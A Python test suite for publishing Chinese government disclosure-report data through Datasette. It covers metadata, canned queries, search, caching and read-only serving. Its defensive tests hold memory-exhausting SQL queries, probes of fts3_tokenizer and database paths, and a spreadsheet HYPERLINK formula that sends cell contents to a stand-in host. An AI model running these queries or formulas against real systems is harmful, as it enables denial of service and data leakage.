"""Datasette on the published copy: the metadata, every canned query on the five samples (in
process), one real `datasette serve` (JSON, CSV, Chinese search, no writes), and what the published
copy must not hold."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from pathlib import Path
from urllib.parse import urlencode

import pytest
from datasette.app import Datasette

from nianbao.db import pipeline
from nianbao.db.checks import RULES
from nianbao.db.format import TABLE3_COLUMN_KEYS, TABLE4_FIELDS
from nianbao.db.schema import connect
from nianbao.publish import database
from nianbao.publish.datasette import (
    DATABASE_FILE,
    METADATA_FILE,
    SETTINGS,
    metadata_json,
    serve_command,
    write_metadata,
)
from nianbao.publish.datasette_cache import CACHE_VARIABLE, MAX_ANSWERS_MB, Answers, cache_budget
from nianbao.publish.metadata import DATABASE, TITLE, table2_columns
from tests.helpers import SAMPLE_NAMES, sample_path
from tests.published import answers, free_port, serving

CJK = re.compile(r"[\u4e00-\u9fff]")
LATIN = re.compile(r"[A-Za-z]{3}")


# --- Fixtures --------------------------------------------------------------------------------------


def publish_dir(root: Path, files: dict[str, bytes]) -> Path:
    """Import `files` (copied under `root`, so a leaked path would show `root`) and publish them
    with their metadata into root/site."""
    inbox, site = root / "inbox", root / "site"
    inbox.mkdir()
    site.mkdir()
    for name, data in files.items():
        (inbox / name).write_bytes(data)
    db = connect(root / "work.db")
    list(pipeline.import_paths(db, sorted(inbox.iterdir())))
    database.build(db, database.public_reports(db, include_unapproved=True), site / DATABASE_FILE)
    db.close()
    write_metadata(site)
    return site


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    """The five samples, published."""
    files = {sample_path(n).name: sample_path(n).read_bytes() for n in SAMPLE_NAMES}
    return publish_dir(tmp_path_factory.mktemp("published"), files)


def previous_year(text: str) -> str:
    """Sample 003 (交口县 2024) moved back to 2023, carrying 2 applications forward: the 2024
    report then breaks YEAR-CARRY in the natural and total columns."""
    text = text.replace("2024", "2023").replace("2025", "2024")
    carried = "四、结转下年度继续办理\t\t0\t\t0\t0\t0\t0\t0"
    assert carried in text
    return text.replace(carried, "四、结转下年度继续办理\t\t2\t\t0\t0\t0\t0\t2")


@pytest.fixture(scope="module")
def history(tmp_path_factory) -> Path:
    """交口县 over two years (2023 edited from 2024), published."""
    this_year = sample_path("003").read_text(encoding="utf-8")
    files = {"jiaokou-2024.txt": this_year.encode(), "jiaokou-2023.txt": previous_year(this_year).encode()}
    return publish_dir(tmp_path_factory.mktemp("history"), files)


def datasette(directory: Path) -> Datasette:
    """An in-process Datasette on a published directory, as `datasette serve` would open it."""
    metadata = json.loads((directory / METADATA_FILE).read_text(encoding="utf-8"))
    return Datasette(immutables=[str(directory / DATABASE_FILE)], metadata=metadata)


def get(directory: Path, path: str):
    async def fetch():
        return await datasette(directory).client.get(path)

    return asyncio.run(fetch())


def canned(directory: Path, name: str, **params: str) -> list[dict]:
    response = get(directory, f"/{DATABASE}/{name}.json?{urlencode({**params, '_shape': 'array'})}")
    assert response.status_code == 200, response.text
    return response.json()


def pick(rows: list[dict], *keys: str) -> list[tuple]:
    return [tuple(row[k] for k in keys) for row in rows]


# --- Metadata --------------------------------------------------------------------------------------


def test_metadata_file_is_deterministic(site, tmp_path):
    first = (site / METADATA_FILE).read_bytes()
    assert write_metadata(tmp_path).read_bytes() == first
    text = first.decode("utf-8")
    data = json.loads(text)
    assert text == json.dumps(data, ensure_ascii=False, indent=2, sort_keys=True) + "\n" == metadata_json()
    assert "\\u" not in text  # Chinese written as such
    assert data["title"] == TITLE
    assert "CC BY 4.0" in data["license"] and "政府文件" in data["license"]
    assert "政府信息公开工作年度报告" in data["source"] and "政府信息公开条例" in data["source"]
    assert CJK.search(data["description"]) and "checked" in data["description"]


def published_columns(directory: Path) -> dict[str, list[str]]:
    """Every table of the published file (FTS5 shadow tables aside) with its columns."""
    with sqlite3.connect(directory / DATABASE_FILE) as conn:
        names = [
            n
            for (n,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
            if not n.startswith(("narratives_fts_", "sqlite_"))
        ]
        return {n: [c[1] for c in conn.execute(f"PRAGMA table_info([{n}])")] for n in names}


def test_every_column_of_every_table_is_described_in_both_languages(site):
    tables = json.loads((site / METADATA_FILE).read_text(encoding="utf-8"))["databases"][DATABASE]["tables"]
    columns = published_columns(site)
    assert set(columns) == set(tables)
    for table, names in columns.items():
        meta = tables[table]
        assert CJK.search(meta["description"]) and LATIN.search(meta["description"]), table
        assert set(meta["columns"]) == set(names), table
        for name, text in meta["columns"].items():
            assert CJK.search(text) and LATIN.search(text), (table, name, text)


def test_column_descriptions_come_from_the_format_with_units(site):
    tables = json.loads((site / METADATA_FILE).read_text(encoding="utf-8"))["databases"][DATABASE]["tables"]
    fees = tables["table2"]["columns"]["fees_wan"]
    assert fees.startswith("2021年版：行政事业性收费·本年收费金额（单位：万元）")
    assert "（万元）" not in fees  # the unit is printed once, not doubled
    assert "2019 format only" in tables["table2"]["columns"]["procurement_wan"]
    assert "（项" in tables["table2"]["columns"]["licensing_prev_items"]
    assert "可为负数" in tables["table2"]["columns"]["licensing_change"]
    assert "2019年版：规章·本年新制作数量" in tables["table2"]["columns"]["rules_made"]
    assert tables["table3"]["columns"]["commercial"].startswith(
        "申请人：法人或其他组织·商业企业；该行（row_key）的件数（件）"
    )
    assert tables["table4"]["columns"]["suit_direct_pending"].startswith("未经复议直接起诉·尚未审结（件）")
    assert len(table2_columns()) == 27 and len(TABLE4_FIELDS) == 15
    assert all(rule in tables["findings"]["columns"]["rule"] for rule in RULES)


def test_metadata_served_with_table3_column_descriptions(site):
    served = get(site, "/-/metadata.json").json()
    table3 = served["databases"][DATABASE]["tables"]["table3"]
    assert set(table3["columns"]) == {"report_id", "row_key", "row_order", *TABLE3_COLUMN_KEYS}
    assert "收到和处理政府信息公开申请情况" in table3["description"]
    html = get(site, f"/{DATABASE}/table3").text
    assert "<dt>total</dt><dd>申请人：总计；该行（row_key）的件数（件）" in html


def test_facets_and_label_column_from_metadata(site):
    data = get(site, f"/{DATABASE}/reports.json").json()
    facets = data["facet_results"]
    assert list(facets) == ["province", "year", "status"]
    assert {(f["value"], f["count"]) for f in facets["year"]["results"]} == {(2024, 4), (2023, 1)}
    assert {(f["value"], f["count"]) for f in facets["province"]["results"]} >= {("山西省", 2), ("河南省", 1)}
    findings = get(site, f"/{DATABASE}/findings.json").json()["facet_results"]
    assert {(f["value"], f["count"]) for f in findings["rule"]["results"]} == {
        ("CELL-MISSING", 4),
        ("NARRATIVE-MATCH", 1),
    }
    rows = get(site, f"/{DATABASE}/table3.json").json()["facet_results"]["row_key"]["results"]
    assert len(rows) == 25 and all(f["count"] == 5 for f in rows)
    # label_column: a report_id shows the organ
    row = get(site, f"/{DATABASE}/table3.json?row_key=new_received&report_id=3&_labels=on&_shape=array").json()[0]
    assert row["report_id"] == {"value": 3, "label": "温县人民政府办公室"}


def test_every_table_and_query_page_renders(site):
    meta = json.loads((site / METADATA_FILE).read_text(encoding="utf-8"))["databases"][DATABASE]

    async def statuses() -> dict[str, int]:
        ds = datasette(site)
        pages = [f"/{DATABASE}/{name}" for name in [*meta["tables"], *meta["queries"]]]
        return {page: (await ds.client.get(page)).status_code for page in ["/", f"/{DATABASE}", *pages]}

    assert set(asyncio.run(statuses()).values()) == {200}


# --- Canned queries --------------------------------------------------------------------------------


def test_every_canned_query_has_title_descriptions_and_params(site):
    queries = json.loads((site / METADATA_FILE).read_text(encoding="utf-8"))["databases"][DATABASE]["queries"]
    assert set(queries) == {
        "county_history",
        "applications_by_county",
        "reports_failing_rule",
        "year_carry_breaks",
        "totals_by_province",
        "search_narratives",
    }
    for name, query in queries.items():
        assert CJK.search(query["title"]) and LATIN.search(query["title"]), name
        assert CJK.search(query["description"]) and LATIN.search(query["description"]), name
        assert query["params"] and all(f":{p}" in query["sql"] for p in query["params"]), name


def test_applications_by_county_ranks_the_latest_year_by_default(site):
    rows = canned(site, "applications_by_county")
    assert pick(rows, "rank", "region", "new_received", "province", "prefecture") == [
        (1, "温县", 33, "河南省", "焦作市"),
        (2, "交口县", 12, "山西省", "吕梁市"),
        (3, "巨鹿县", 11, "河北省", "邢台市"),
        (4, "夏县", 2, "山西省", "运城市"),
    ]
    assert pick(canned(site, "applications_by_county", year="2023"), "region_code", "new_received") == [("654023", 11)]
    assert pick(canned(site, "applications_by_county", year="2024", province="山西省"), "region") == [
        ("交口县",),
        ("夏县",),
    ]


def test_county_history_of_one_county(site):
    (row,) = canned(site, "county_history", region_code="141130")
    assert row == {
        "year": 2024,
        "organ": "交口县人民政府办公室",
        "region": "交口县",
        "province": "山西省",
        "prefecture": "吕梁市",
        "report_id": 4,
        "status": "needs_review",
        "new_received": 12,
        "carried_over": 0,
        "granted": 12,
        "carried_forward": 0,
        "normative_made": 7,
        "normative_in_force": 16,
        "reviews": 3,
        "lawsuits": 0,
        "errors": 2,
        "warnings": 0,
    }
    assert canned(site, "county_history", region_code="000000") == []


def test_county_history_over_two_years_and_its_default(history):
    rows = canned(history, "county_history", region_code="141130")
    assert pick(rows, "year", "carried_over", "carried_forward") == [(2023, 0, 2), (2024, 0, 0)]
    assert rows[1]["errors"] == 4  # two CELL-MISSING, two YEAR-CARRY
    assert canned(history, "county_history") == rows  # blank: the county with the most years


def test_reports_failing_rule(site):
    rows = canned(site, "reports_failing_rule")  # default CELL-MISSING
    assert pick(rows, "report_id", "organ", "findings") == [
        (1, "夏县人民政府办公室", 1),
        (4, "交口县人民政府办公室", 2),
        (5, "霍城县人民政府", 1),
    ]
    assert "table2.normative_in_force 空缺" in rows[0]["message_zh"]
    assert rows[0]["message"].startswith("table2.normative_in_force is blank")
    assert "table3.carried_forward.commercial" in rows[1]["message_zh"]
    assert pick(canned(site, "reports_failing_rule", rule="NARRATIVE-MATCH"), "organ") == [("温县人民政府办公室",)]
    assert pick(canned(site, "reports_failing_rule", rule="CELL-MISSING", year="2023"), "report_id") == [(5,)]
    assert canned(site, "reports_failing_rule", rule="T3-BALANCE") == []


def test_year_carry_breaks_show_both_years(site, history):
    assert canned(site, "year_carry_breaks") == []
    rows = canned(history, "year_carry_breaks")
    assert pick(rows, "organ", "previous_year", "previous_carried_forward", "year", "carried_over", "column_key") == [
        ("交口县人民政府办公室", 2023, 2, 2024, 0, "natural"),
        ("交口县人民政府办公室", 2023, 2, 2024, 0, "total"),
    ]
    years = {r["id"]: r["year"] for r in get(history, f"/{DATABASE}/reports.json?_shape=array").json()}
    assert years[rows[0]["report_id"]] == 2024 and years[rows[0]["previous_report_id"]] == 2023
    assert canned(history, "year_carry_breaks", year="2023") == []


def test_totals_by_province(site):
    rows = canned(site, "totals_by_province")  # latest year: 2024
    keys = ("province", "reports", "counties", "new_received", "granted", "carried_forward", "reports_with_errors")
    assert pick(rows, *keys) == [
        ("河南省", 1, 1, 33, 2, 0, 0),
        ("山西省", 2, 2, 14, 12, 0, 2),
        ("河北省", 1, 1, 11, 10, 0, 0),
    ]
    assert pick(canned(site, "totals_by_province", year="2023"), *keys) == [("新疆维吾尔自治区", 1, 1, 11, 11, 0, 1)]


def test_search_narratives_three_characters_use_the_index(site):
    rows = canned(site, "search_narratives", q="依申请公开")
    assert {r["method"] for r in rows} == {"fts"}
    assert {r["report_id"] for r in rows} == {1, 2, 3, 4, 5}
    assert all("【依申请公开】" in r["snippet"] for r in rows)
    assert {r["section_title"] for r in rows} <= {"总体情况", "存在的主要问题及改进情况", "其他需要报告的事项"}
    assert canned(site, "search_narratives") == rows  # blank: 依申请公开


def test_search_narratives_two_characters_fall_back_to_like(site):
    rows = canned(site, "search_narratives", q="复议")
    assert {r["method"] for r in rows} == {"like"}
    assert all("【复议】" in r["snippet"] for r in rows)
    with sqlite3.connect(site / DATABASE_FILE) as conn:
        want = conn.execute("SELECT count(*) FROM narratives WHERE text LIKE '%复议%'").fetchone()[0]
        assert (
            conn.execute("SELECT count(*) FROM narratives_fts WHERE narratives_fts MATCH '\"复议\"'").fetchone()[0] == 0
        )
    assert len(rows) == want > 0
    assert pick(canned(site, "search_narratives", q="霍"), "organ") and {r["method"] for r in rows} == {"like"}


def test_search_narratives_takes_any_text_literally(site):
    for q in ('"*(', "%%", "_", "a_b", "OR", "依申请 OR 公开"):
        assert canned(site, "search_narratives", q=q) == [], q


# --- A real server ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(site, tmp_path_factory):
    with serving(site, tmp_path_factory.mktemp("server") / "datasette.log") as base:
        yield base


def fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.read().decode("utf-8")


def fetch_json(url: str):
    return json.loads(fetch(url))


def test_serve_command_is_local_and_read_only(site):
    argv, cwd = serve_command(site)
    assert argv[1:4] == ["-m", "nianbao.publish.datasette_limits", "serve"]  # Datasette with nianbao's limits
    assert cwd == site.resolve()
    assert argv[argv.index("-i") + 1] == DATABASE_FILE  # named in its folder: visitors never see the path
    assert argv[argv.index("-m", 2) + 1] == METADATA_FILE
    assert argv[argv.index("--host") + 1] == "127.0.0.1" and argv[argv.index("--port") + 1] == "8001"
    assert DATABASE_FILE not in [a for i, a in enumerate(argv) if argv[i - 1] != "-i"]  # never mutable
    settings = {argv[i + 1]: argv[i + 2] for i, a in enumerate(argv) if a == "--setting"}
    assert settings == SETTINGS and settings["sql_time_limit_ms"] == "1500"


def test_server_json_reports(server):
    rows = fetch_json(f"{server}/{DATABASE}/reports.json?_shape=array")
    assert sorted((r["region_code"], r["year"]) for r in rows) == [
        ("130529", 2024),
        ("140828", 2024),
        ("141130", 2024),
        ("410825", 2024),
        ("654023", 2023),
    ]
    databases = fetch_json(f"{server}/-/databases.json")
    assert [(d["name"], d["is_mutable"]) for d in databases] == [(DATABASE, False)]
    plugins = fetch_json(f"{server}/-/plugins.json")
    assert [(p["name"], p["hooks"]) for p in plugins] == [  # nianbao's own three: no plugin that writes
        ("nianbao.publish.datasette_cache", ["asgi_wrapper", "startup"]),
        ("nianbao.publish.datasette_limits", ["prepare_connection", "startup"]),
        ("nianbao.publish.datasette_render", ["prepare_jinja2_environment"]),
    ]
    settings = fetch_json(f"{server}/-/settings.json")
    assert settings["sql_time_limit_ms"] == settings["facet_time_limit_ms"] == 1500
    assert (settings["default_page_size"], settings["default_cache_ttl"]) == (20, 600)


def test_server_csv(server):
    text = fetch(f"{server}/{DATABASE}/table3.csv?" + urlencode({"row_key": "new_received", "_sort": "report_id"}))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["report_id", "row_key", "row_order", *TABLE3_COLUMN_KEYS]
    assert [(r[0], r[-1]) for r in rows[1:]] == [("1", "2"), ("2", "11"), ("3", "33"), ("4", "12"), ("5", "11")]


def test_server_chinese_search(server):
    q = urlencode({"q": "依申请公开", "_shape": "array"})
    rows = fetch_json(f"{server}/{DATABASE}/search_narratives.json?{q}")
    assert len({r["report_id"] for r in rows}) == 5 and {r["method"] for r in rows} == {"fts"}
    table = fetch_json(
        f"{server}/{DATABASE}/narratives.json?" + urlencode({"_search": "依申请公开", "_shape": "array"})
    )
    assert len({r["report_id"] for r in table}) == 5
    # two characters: the table search (trigram) finds nothing, the canned query falls back to LIKE
    short = urlencode({"_search": "公开", "_shape": "array"})
    assert fetch_json(f"{server}/{DATABASE}/narratives.json?{short}") == []
    rows = fetch_json(f"{server}/{DATABASE}/search_narratives.json?" + urlencode({"q": "公开", "_shape": "array"}))
    assert len(rows) >= 10 and {r["method"] for r in rows} == {"like"} and "【公开】" in rows[0]["snippet"]


def test_server_refuses_writes(server):
    # (each refusal takes Datasette ~0.5 s: it logs the traceback)
    for sql in ("INSERT INTO rules (id) VALUES ('X')", "DELETE FROM reports"):
        url = f"{server}/{DATABASE}.json?" + urlencode({"sql": sql})
        with pytest.raises(urllib.error.HTTPError) as error:
            fetch(url)
        assert error.value.code == 400 and "Statement must be a SELECT" in error.value.read().decode()
    with pytest.raises(urllib.error.HTTPError) as error:
        urllib.request.urlopen(urllib.request.Request(url, data=b"sql=DELETE+FROM+reports", method="POST"), timeout=10)
    assert error.value.code == 405
    count = "select (select count(*) from reports) reports, (select count(*) from rules where id = 'X') x"
    assert fetch_json(f"{server}/{DATABASE}.json?" + urlencode({"sql": count, "_shape": "array"})) == [
        {"reports": 5, "x": 0}
    ]


def test_server_cuts_a_query_off_at_the_time_limit(server):
    """Arbitrary SQL is allowed: a query that would never end is stopped at sql_time_limit_ms."""
    endless = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"
    with pytest.raises(urllib.error.HTTPError) as error:
        fetch(f"{server}/{DATABASE}.json?" + urlencode({"sql": endless}))
    assert error.value.code == 400 and "SQL query took too long" in error.value.read().decode()


def opened(url: str, headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], bytes]:
    """Status, headers (lower-case names) and body of a GET, an error's as well."""
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, {k.lower(): v for k, v in response.headers.items()}, response.read()
    except urllib.error.HTTPError as error:
        return error.code, {k.lower(): v for k, v in error.headers.items()}, error.read()


def test_table_pages_show_twenty_rows_and_the_whole_count(server, site):
    """A table page renders 20 rows (more with ?_size=), and still says how many rows the table
    has: the count taken when the server started."""
    with sqlite3.connect(site / DATABASE_FILE) as conn:
        (cells,) = conn.execute("SELECT count(*) FROM cells").fetchone()
    assert cells > 100
    page = fetch_json(f"{server}/{DATABASE}/cells.json")
    assert (len(page["rows"]), page["filtered_table_rows_count"]) == (20, cells) and page["next"]
    assert len(fetch_json(f"{server}/{DATABASE}/cells.json?_size=100")["rows"]) == 100
    html = fetch(f"{server}/{DATABASE}/cells")
    assert f"{cells:,} rows" in html and html.split("<tbody>")[1].count("<tr>") == 20
    filtered = fetch_json(f"{server}/{DATABASE}/cells.json?table_name=table4&_size=max")
    assert filtered["filtered_table_rows_count"] == len(filtered["rows"]) == 5 * len(TABLE4_FIELDS)


def test_answers_may_be_kept_ten_minutes(server):
    for path in (f"/{DATABASE}/reports", f"/{DATABASE}/county_history.json?region_code=141130"):
        status, headers, _ = opened(server + path)
        assert (status, headers["cache-control"]) == (200, "max-age=600"), path


def test_an_address_asked_by_four_at_once_is_rendered_once(server):
    """Four clients ask for the same new address at once: one render, three answers from
    memory, all four the same bytes; asked again later, from memory too."""
    url = f"{server}/{DATABASE}/applications_by_county.json?" + urlencode({"year": "2024", "province": ""})
    with ThreadPoolExecutor(4) as pool:
        answers_ = list(pool.map(opened, [url] * 4))
    assert sorted(headers["x-nianbao-cache"] for _, headers, _ in answers_) == ["hit", "hit", "hit", "miss"]
    assert {(status, body) for status, _, body in answers_} == {(200, answers_[0][2])}
    status, headers, body = opened(url)
    assert (status, headers["x-nianbao-cache"], body) == (200, "hit", answers_[0][2])
    rows = json.loads(body)["rows"]
    assert rows and rows == json.loads(opened(url.replace("province=", "province=&_=1"))[2])["rows"]


def test_errors_and_visitors_are_never_answered_from_memory(server):
    bad = f"{server}/{DATABASE}.json?" + urlencode({"sql": "select * from no_such_table"})
    for _ in range(2):  # a 400, rendered each time
        status, headers, _ = opened(bad)
        assert (status, headers["x-nianbao-cache"]) == (400, "miss")
    reports = f"{server}/{DATABASE}/reports.json?_shape=array&_sort=id"
    opened(reports)
    assert opened(reports)[1]["x-nianbao-cache"] == "hit"
    for headers in ({"Cookie": "ds_actor=someone"}, {"Cookie": "ds_csrftoken=t"}, {"Authorization": "Bearer x"}):
        status, answered, _ = opened(reports, headers)
        assert status == 200 and "x-nianbao-cache" not in answered, headers


def test_answers_kept_within_their_budget(monkeypatch):
    monkeypatch.setenv(CACHE_VARIABLE, "0")
    assert cache_budget() == 0
    monkeypatch.setenv(CACHE_VARIABLE, "")
    assert cache_budget() == MAX_ANSWERS_MB * 1024 * 1024
    monkeypatch.setenv(CACHE_VARIABLE, "很多")
    with pytest.raises(ValueError, match=f"^{CACHE_VARIABLE} 应为兆字节数"):
        cache_budget()
    kept = Answers(budget=10)
    start = {"type": "http.response.start", "status": 200, "headers": []}
    for key, body in [("a", b"1234"), ("b", b"5678"), ("huge", b"x" * 11)]:
        kept.put((key,), start, body)
    assert kept.get(("a",)) and kept.get(("huge",)) is None  # over the budget alone: never kept
    kept.put(("c",), start, b"9012")  # over the budget together: the least recently used goes
    assert [kept.get((k,)) is not None for k in "abc"] == [True, False, True] and kept.used == 8


# --- What the published copy must not hold ------------------------------------------------------------


def text_values(path: Path):
    with sqlite3.connect(path) as conn:
        for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
            for row in conn.execute(f"SELECT * FROM [{table}]"):
                yield from ((table, v) for v in row if isinstance(v, str))


@pytest.mark.parametrize("fixture", ["site", "history"])
def test_published_copy_holds_no_names_or_local_paths(fixture, request):
    directory: Path = request.getfixturevalue(fixture)
    for table, columns in published_columns(directory).items():
        for name in columns:
            assert not re.search(r"who|operator|user|path|imported_at", name), (table, name)
    root = directory.parent
    local = [str(root), str(root.resolve()), str(Path.home()), *(p.name for p in (root / "inbox").iterdir())]
    values = list(text_values(directory / DATABASE_FILE))
    assert len(values) > 1000
    for table, value in values:
        assert not any(piece in value for piece in local), (table, value[:200])


# --- `nianbao serve` in public: hostile queries, what it shows, how it stops ---------------------------

HOSTILE = [
    "select length(printf('%.*c', 900000000, 'x'))",
    "select hex(zeroblob(200000000))",
    "select length(format('%*d', 900000000, 1))",
    "select length(randomblob(300000000))",
    "select length(replace(hex(zeroblob(8000000)), '0', hex(zeroblob(100))))",
    "select length(printf('%.*c', 900000000, 'x'))",
]


@pytest.fixture(scope="module")
def published(tmp_path_factory) -> Path:
    """The five samples published as `nianbao publish` does (Datasette files and the site)."""
    from nianbao.publish.run import publish

    root = tmp_path_factory.mktemp("served")
    db = connect(root / "work.db")
    list(pipeline.import_paths(db, [sample_path(n) for n in SAMPLE_NAMES]))
    out = publish(db, root / "out", include_unapproved=True).out
    db.close()
    return out


@contextmanager
def nianbao_serve(out: Path) -> Iterator[tuple[subprocess.Popen, str]]:
    """`nianbao serve OUT` on a free port, answering; the process and its base URL. Always
    stopped, with its Datasette child."""
    port = free_port()
    argv = [sys.executable, "-m", "nianbao.tui.cli", "serve", str(out), "--port", str(port)]
    process = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    base = f"http://127.0.0.1:{port}"
    try:
        assert answers(base, process), "nianbao serve did not start"
        yield process, base
    finally:
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def children(pid: int) -> list[int]:
    return [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def query(base: str, sql: str) -> tuple[int, str]:
    url = f"{base}/{DATABASE}.json?" + urlencode({"sql": sql, "_shape": "array"})
    try:
        with urllib.request.urlopen(url, timeout=60) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def test_six_hostile_queries_leave_the_server_answering(published):
    """Six queries that each asked SQLite for gigabytes in one step (past the time limit, which
    is checked between steps) are refused at once; a visitor's query meanwhile is answered, and
    the server's memory stays under 1 GiB. (The time is checked loosely: the machine is shared.)"""
    with nianbao_serve(published) as (process, base), ThreadPoolExecutor(len(HOSTILE)) as pool:
        (datasette_pid,) = children(process.pid)
        hostile = [pool.submit(query, base, sql) for sql in HOSTILE]
        start = time.monotonic()
        status, body = query(base, "select count(*) as n from reports")
        waited = time.monotonic() - start
        answers = [future.result() for future in hostile]
        peak_kb = int(re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{datasette_pid}/status").read_text()).group(1))
    assert (status, json.loads(body)) == (200, [{"n": 5}])
    assert waited < 10
    for sql, (code, text) in zip(HOSTILE, answers):
        assert code == 400, (sql, code, text[:200])
        assert "too big" in text or "user-defined function raised exception" in text, (sql, text[:300])
    assert peak_kb < 1024 * 1024


def test_served_instance_shows_no_path_and_no_address(published):
    with nianbao_serve(published) as (_, base):
        databases = fetch_json(f"{base}/-/databases.json")
        listed = query(base, "select name, file from pragma_database_list")
        tokenizer = query(base, "select fts3_tokenizer('simple') as t")
        normal = query(base, "select printf('%5.1f|%s|%%', 3.14159, '年报') as p")
    assert [d["path"] for d in databases] == [DATABASE_FILE]
    assert str(published.parent) not in json.dumps(databases)
    assert (listed[0], json.loads(listed[1])) == (200, [{"name": "main", "file": None}])
    assert tokenizer[0] == 400 and "user-defined function raised exception" in tokenizer[1]
    assert (normal[0], json.loads(normal[1])) == (200, [{"p": "  3.1|年报|%"}])  # printf works as ever


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP], ids=["TERM", "HUP"])
def test_stopping_nianbao_serve_stops_datasette(published, signum):
    """`kill -TERM` (or -HUP) of `nianbao serve` alone: its Datasette child stops too, instead
    of serving on the port with no parent."""
    with nianbao_serve(published) as (process, base):
        (datasette_pid,) = children(process.pid)
        process.send_signal(signum)
        process.wait(timeout=30)
        deadline = time.monotonic() + 30
        while Path(f"/proc/{datasette_pid}").exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not Path(f"/proc/{datasette_pid}").exists()
        with pytest.raises(OSError):
            urllib.request.urlopen(f"{base}/-/versions.json", timeout=2)


def test_the_site_files_are_never_kept(published):
    """A publish swaps the site's files while `nianbao serve` runs: they are read each time."""
    with nianbao_serve(published) as (_, base):
        site = [opened(f"{base}/site/index.html") for _ in range(2)]
        tables = [opened(f"{base}/{DATABASE}/rules") for _ in range(2)]
    assert [(status, "x-nianbao-cache" in headers) for status, headers, _ in site] == [(200, False)] * 2
    assert [headers["x-nianbao-cache"] for _, headers, _ in tables] == ["miss", "hit"]


FORMULAS = {
    "narratives": ("text", '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'),
    "reports": ("title", "+SUM(1,2)"),
}


def test_served_csv_guards_spreadsheet_formulas(tmp_path):
    """The published `reports` and `narratives` as CSV from Datasette: a text that starts like a
    formula gets the leading apostrophe the site's CSVs give it; the JSON keeps it exact."""
    files = {sample_path(n).name: sample_path(n).read_bytes() for n in SAMPLE_NAMES[:2]}
    site = publish_dir(tmp_path, files)
    with sqlite3.connect(site / DATABASE_FILE) as conn:
        for table, (column, text) in FORMULAS.items():
            conn.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = (SELECT min(rowid) FROM {table})", [text])
        conn.execute("UPDATE reports SET organ = '@SUM(A1)', website = '-2+3' WHERE id = 2")
    with serving(site, tmp_path / "datasette.log") as base:
        csv_rows = {
            table: list(csv.DictReader(io.StringIO(fetch(f"{base}/{DATABASE}.csv?" + urlencode({"sql": sql})))))
            for table, sql in [
                ("narratives", "select * from narratives order by rowid"),
                ("reports", "select * from reports order by id"),
            ]
        }
        table_csv = fetch(f"{base}/{DATABASE}/reports.csv?_sort=id")
        exact = fetch_json(f"{base}/{DATABASE}/reports.json?_shape=array&_sort=id")
    for table, (column, text) in FORMULAS.items():
        assert csv_rows[table][0][column] == "'" + text
    assert (csv_rows["reports"][1]["organ"], csv_rows["reports"][1]["website"]) == ("'@SUM(A1)", "'-2+3")
    assert list(csv.DictReader(io.StringIO(table_csv)))[1]["organ"] == "'@SUM(A1)"  # a table's page as CSV too
    assert (exact[0]["title"], exact[1]["organ"], exact[1]["website"]) == ("+SUM(1,2)", "@SUM(A1)", "-2+3")
    assert csv_rows["reports"][0]["year"] == "2024"  # numbers as they are
